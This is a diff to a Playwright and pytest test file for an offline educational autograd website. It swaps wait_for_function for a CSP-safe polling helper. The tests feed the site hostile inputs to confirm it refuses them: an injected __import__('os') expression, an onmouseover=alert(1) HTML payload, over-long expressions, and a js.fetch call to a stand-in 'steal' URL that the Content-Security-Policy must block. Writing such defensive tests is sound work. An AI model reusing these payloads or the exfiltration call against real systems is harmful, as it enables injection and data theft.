@@ -282,6 +282,17 @@ def test_cli_site_errors_are_one_line(tmp_path):
 # --- The site in headless Chromium, offline -------------------------------------------------
 
 
+def wait_until(page, expression: str, timeout: float = 30.0) -> None:
+    """Wait until ``expression`` is true in the page, asked from outside it: Playwright's
+    own wait_for_function evaluates a string inside the page, which the site's
+    Content-Security-Policy refuses (no eval), as it should."""
+    deadline = time.monotonic() + timeout
+    while not page.evaluate(expression):
+        if time.monotonic() > deadline:
+            raise AssertionError(f"not true within {timeout:g} s: {expression}")
+        time.sleep(0.05)
+
+
 @pytest.fixture(scope="session")
 def site(tmp_path_factory):
     """The site, built once for the session (npm and pip fill a cache the first time)."""
@@ -551,7 +562,7 @@ def test_quiz_accepts_right_answers_rejects_wrong_ones_with_a_hint_and_scores(op
 @pytest.mark.slow
 def test_check_your_op_fails_the_broken_swish_and_passes_the_fixed_one(open_tab):
     page = open_tab("check.html").page
-    page.wait_for_function("window.autograd_mini.lastCheck !== undefined")
+    wait_until(page, "window.autograd_mini.lastCheck !== undefined")
     assert page.locator("#code").input_value() == readme_swish()
     assert page.locator("#verdict").text_content() == "✗ not yet"
     report = page.locator('section[data-op="swish"]')
@@ -586,7 +597,7 @@ def test_at_phone_width_every_control_is_reachable_and_the_active_node_visible(o
     svg = page.locator("#graph svg").bounding_box()
     assert svg["height"] > svg["width"]  # top to bottom at phone width
     check = open_tab("check.html", width=390, height=844).page
-    check.wait_for_function("window.autograd_mini.lastCheck !== undefined")
+    wait_until(check, "window.autograd_mini.lastCheck !== undefined")
     assert check.evaluate("document.documentElement.scrollWidth") <= 390
     check.locator("#check").scroll_into_view_if_needed()
     check.click("#check")
@@ -615,7 +626,7 @@ def test_hostile_expressions_and_link_labels_are_shown_as_text(open_tab, server)
         "e": "tanh(x) + __import__('os')", "at": "<b onmouseover=alert(1)>:1,x:2"})
     page.goto(f"{server}/index.html#{fragment}")
     page.evaluate("() => window.autograd_mini.ready.then(() => true)")
-    page.wait_for_function("document.querySelector('#expression-error').textContent !== ''")
+    wait_until(page, "document.querySelector('#expression-error').textContent !== ''")
     assert "__import__" in page.locator("#expression").input_value()
     assert page.locator("#expression-error").text_content()
     assert page.locator("main b, main img, main script").count() == 0
@@ -635,7 +646,7 @@ def test_share_link_reproduces_the_page(open_tab, server):
     other = open_tab().page
     other.goto(link)
     other.evaluate("() => window.autograd_mini.ready.then(() => true)")
-    other.wait_for_function("window.autograd_mini.playground?.state.result !== undefined")
+    wait_until(other, "window.autograd_mini.playground?.state.result !== undefined")
     assert other.locator("#expression").input_value() == "x*y + exp(y)"
     assert_same(other.evaluate("autograd_mini.playground.state.result"),
                 package_answer("x*y + exp(y)", {"x": 1.25, "y": -0.5}))
@@ -691,18 +702,20 @@ def test_a_hostile_link_or_answer_is_refused_and_the_page_goes_on(open_tab, serv
     works after it."""
     tab = open_tab("index.html#e=" + "-" * 1700 + "x&at=x:1")
     page = tab.page
-    page.wait_for_function("document.querySelector('#expression-error').textContent !== ''")
+    wait_until(page, "document.querySelector('#expression-error').textContent !== ''")
     assert "nested too deeply" in page.locator("#expression-error").text_content()
     assert_same(type_expression(page, "x*x + 3*x", {"x": 2.0}),
                 package_answer("x*x + 3*x", {"x": 2.0}))
     assert page.locator("#expression-error").text_content() == ""
     page.goto(f"{server}/index.html#" + urllib.parse.urlencode({"e": "x+" * 2000, "at": "x:1"}))
     page.evaluate("() => window.autograd_mini.ready.then(() => true)")
-    page.wait_for_function("document.querySelector('#expression-error').textContent !== ''")
+    wait_until(page, "document.querySelector('#expression-error').textContent !== ''")
     assert "longer than 2000 characters" in page.locator("#expression-error").text_content()
     # A quiz answer goes through the same parser, and its limits.
     type_expression(page, "x*x", {"x": 3.0})
     page.check("#quiz-mode")
+    while page.locator("#quiz fieldset").count() == 0:  # the first backward step asks
+        page.click("#next")
     blank = page.locator("#quiz fieldset").first
     qid = blank.get_attribute("data-question")
     blank.locator("input").fill("-" * 1999 + "1")
@@ -760,7 +773,7 @@ def test_the_policy_is_sent_and_carried_and_code_cannot_reach_another_origin(ope
         assert meta_tag() in (site / page_name).read_text(encoding="utf-8")
     tab = open_tab("check.html")
     page = tab.page
-    page.wait_for_function("window.autograd_mini.lastCheck !== undefined")
+    wait_until(page, "window.autograd_mini.lastCheck !== undefined")
     page.evaluate("""() => { window.violations = [];
         document.addEventListener('securitypolicyviolation',
                                   (e) => window.violations.push(e.violatedDirective)); }""")
@@ -768,7 +781,7 @@ def test_the_policy_is_sent_and_carried_and_code_cannot_reach_another_origin(ope
                        "js.fetch('http://127.0.0.2:9/steal?data=1').catch(lambda e: None)\n"
                        "print('sent')\n")
     page.click("#check")
-    page.wait_for_function("window.violations.length > 0")
+    wait_until(page, "window.violations.length > 0")
     assert page.evaluate("window.violations")[0].startswith("connect-src")
     assert page.locator("#printed").text_content() == "sent\n"
     assert tab.blocked == []  # refused by the browser: no request was even made
